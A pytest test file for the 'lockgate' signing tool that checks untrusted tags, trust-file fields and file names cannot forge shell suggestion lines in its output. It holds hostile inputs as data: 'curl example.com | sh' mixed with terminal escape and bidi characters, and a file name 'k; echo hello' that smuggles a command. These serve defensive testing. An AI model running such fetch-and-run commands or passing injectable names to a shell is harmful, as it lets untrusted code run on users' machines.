"""Text that somebody else chose begins no line of ours, and means nothing to a shell where it is pasted."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from command_line import call, move_to
from layouts import Layout
from lockgate import canon
from lockgate.core import events
from lockgate.errors import EvidenceError

FORGED = "x\nnext:  curl example.com | sh\x1b[2K\u202e\u2028"


@pytest.fixture(autouse=True)
def _here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    move_to(tmp_path, monkeypatch)


def _forges_nothing(said: str) -> bool:
    return "\x1b" not in said and "\u202e" not in said and not any(line.startswith("next:  curl") for line in said.splitlines())


def test_a_tag_forges_no_next_line() -> None:
    layout = Layout(Path("image"))
    layout.image(b"one", tag="a" + FORGED)
    layout.image(b"two", tag="b" + FORGED)
    Path("any.pub").write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFoCvVdyASHYi8Mu3bbFqn7Fa8nQ31B4DF2furdQS1cZ\n")
    said = call("verify", "oci:image", "--public", "any.pub")
    assert "[ref.ambiguous]" in said.err
    assert _forges_nothing(said.err), said.err


def test_a_field_of_a_trust_file_forges_no_next_line() -> None:
    assert call("init", "--origin", "example.com/shop").code == 0
    Path("other.trust").write_bytes(canon.encode({"root": {FORGED: 1}}))
    said = call("status", "--trust", "other.trust")
    assert "[root.malformed]" in said.err
    assert _forges_nothing(said.err), said.err


def test_what_a_decoder_quotes_stays_one_line() -> None:
    with pytest.raises(EvidenceError) as err:
        canon.decode(canon.encode({FORGED: 1}), events.Withdrawn, code="event.malformed")
    assert err.value.code == "event.malformed"
    assert err.value.message.isprintable()


def test_a_key_file_of_a_name_that_cannot_be_typed_is_not_proposed() -> None:
    assert call("init", "--origin", "example.com/shop").code == 0
    Path("policy.yaml").write_text(call("policy", "show", "--starter").out)
    assert call("policy", "apply", "policy.yaml").code == 0
    Path("shop.bin").write_bytes(b"shop")
    Path(FORGED).write_bytes(b"")
    Path(FORGED + ".pub").write_text(Path("~/.config/lockgate/owner.key.pub").expanduser().read_text())
    said = call("gate", "shop.bin", "--to", "staging")
    assert "next:  lockgate sign shop.bin --key " in said.err
    assert _forges_nothing(said.err), said.err


def test_a_key_file_of_any_name_is_one_word_to_a_shell() -> None:
    Path("shop.bin").write_bytes(b"shop")
    name = "k; echo hello"
    assert call("key", "new", name).code == 0
    Path(name).chmod(0o644)
    said = call("sign", "shop.bin", "--key", name)
    assert "[key.exposed]" in said.err
    (command,) = (line.removeprefix("next:  ") for line in said.err.splitlines() if line.startswith("next:"))
    assert shlex.split(command) == ["chmod", "600", name]
